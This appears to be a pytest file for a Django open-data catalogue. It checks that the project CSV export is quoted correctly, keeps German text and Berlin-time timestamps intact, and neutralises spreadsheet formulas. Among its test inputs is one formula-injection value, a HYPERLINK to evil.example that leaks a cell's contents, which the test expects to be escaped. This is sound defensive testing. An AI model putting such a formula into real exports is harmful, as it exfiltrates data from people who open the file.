"""The catalogue CSV's lines come from PostgreSQL (projects.opendata_csv); they
are, byte for byte, what the csv module makes of ``project_rows``: quoting,
neutralised formulas, amounts, dates, moments in Berlin time, joined names."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.http import StreamingHttpResponse

from core.downloads import csv_chunks
from projects.models import Adoption, Project
from projects.opendata import PROJECT_TEXT_COLUMNS, project_header, project_rows
from tests.members.factories import MunicipalityFactory
from tests.projects.factories import (
    AdoptionFactory,
    ParticipationFactory,
    ProjectFactory,
    TopicFactory,
)

pytestmark = pytest.mark.django_db

AWKWARD = [
    'Mit "Anführung" und; Semikolon',
    "Zeile eins\nZeile zwei",
    "Nur\rCR",
    '=HYPERLINK("http://evil.example/?leak="&B2)',
    "+49 6232 123",
    "-1+1",
    "@SUMME(A1)",
    "\tTab vorn",
    "\rCR vorn",
    "Ä Ö Ü ä ö ü ß – € „deutsch“",
    "Komma, aber sonst nichts",
    "",
]


def generic_csv() -> bytes:
    """The catalogue CSV as the csv module writes it, row by row."""
    return b"".join(csv_chunks(project_header(), project_rows(), text_columns=PROJECT_TEXT_COLUMNS))


def download(client) -> bytes:
    response = client.get("/opendata/projekte.csv")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content)


@pytest.fixture
def awkward_catalogue(speyer):
    topics = [TopicFactory(name=name, slug=f"thema-{n}") for n, name in enumerate(AWKWARD[:4])]
    cities = [
        MunicipalityFactory(
            name=text or "Ohne Namen", slug=f"stadt-{n}", ags="" if n % 2 else f"0731{n:04d}"
        )
        for n, text in enumerate(AWKWARD[5:])
    ]
    moments = [
        datetime(2026, 1, 15, 9, 30, tzinfo=UTC),  # winter, whole seconds
        datetime(2026, 7, 1, 22, 15, 5, 123456, tzinfo=UTC),  # summer, the next day in Berlin
        datetime(2026, 3, 29, 0, 59, 59, 1, tzinfo=UTC),  # just before the clocks go forward
    ]
    for number, text in enumerate(AWKWARD):
        project = ProjectFactory(
            title=text or "Leerer Titel",
            slug=f"projekt-{number}",
            summary=AWKWARD[(number + 3) % len(AWKWARD)],
            lead_municipality=cities[number % len(cities)] if number % 3 else speyer,
            phase="" if number % 4 == 0 else Project.Phase.OPERATION,
            start_date=date(2020, 1, number + 1) if number % 2 else None,
            end_date=date(2030, 12, 31) if number == 5 else None,
            investment_cost=Decimal("60750.05") * number if number % 3 else None,
            running_cost_per_year=Decimal("0.50") if number % 2 else None,
            effort_person_days=number * 10 if number % 2 else None,
            is_reusable=bool(number % 2),
            licence="EUPL-1.2" if number % 2 else "",
            technologies=AWKWARD[(number + 5) % len(AWKWARD)],
            website=f"https://example.org/{number};x" if number % 2 else "",
            repository_url=f"=https://example.org/{number}.git" if number == 3 else "",
            published_at=moments[number % len(moments)],
            topics=topics[: number % 5],
        )
        for city in cities[: number % 4]:
            ParticipationFactory(project=project, municipality=city)
        if number % 2:
            AdoptionFactory(project=project, status=Adoption.Status.OPERATING)
    ProjectFactory(title="=Entwurf", lead_municipality=speyer, state=Project.State.DRAFT)
    # updated_at is set on save: give it one with and one without microseconds
    Project.objects.filter(slug="projekt-1").update(updated_at=moments[0])
    Project.objects.filter(slug="projekt-2").update(updated_at=moments[1])


def test_the_database_writes_the_csv_the_csv_module_writes(client, awkward_catalogue):
    written = download(client)
    assert written == generic_csv()
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 1 + Project.objects.published().count() == 1 + len(AWKWARD)
    by_slug = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_slug["projekt-3"]["titel"].startswith("'=HYPERLINK(")
    assert by_slug["projekt-3"]["quellcode"] == "'=https://example.org/3.git"
    assert by_slug["projekt-0"]["titel"] == 'Mit "Anführung" und; Semikolon'
    assert by_slug["projekt-1"]["titel"] == "Zeile eins\nZeile zwei"
    assert by_slug["projekt-9"]["titel"] == "Ä Ö Ü ä ö ü ß – € „deutsch“"
    assert by_slug["projekt-1"]["geaendert_am"] == "2026-01-15T10:30:00+01:00"
    assert by_slug["projekt-1"]["veroeffentlicht_am"] == "2026-07-02T00:15:05.123456+02:00"
    assert by_slug["projekt-5"]["ende"] == "2030-12-31"
    assert "=Entwurf" not in written.decode()


def test_an_empty_catalogue_is_the_header_alone(client, db):
    assert download(client) == generic_csv()
    assert download(client).decode("utf-8-sig").count("\r\n") == 1


def test_the_settings_for_the_lines_are_set_back(client, awkward_catalogue):
    """The lines are read in Berlin's time zone without sorts; an enclosing
    transaction (this test's) goes on with the connection's own settings, so
    moments read afterwards are right."""
    from django.db import connection

    def settings() -> tuple:
        with connection.cursor() as cursor:
            cursor.execute("SELECT current_setting('TimeZone'), current_setting('enable_sort')")
            return cursor.fetchone()

    before = settings()
    download(client)
    assert settings() == before
    project = Project.objects.get(slug="projekt-1")
    assert project.updated_at == datetime(2026, 1, 15, 9, 30, tzinfo=UTC)
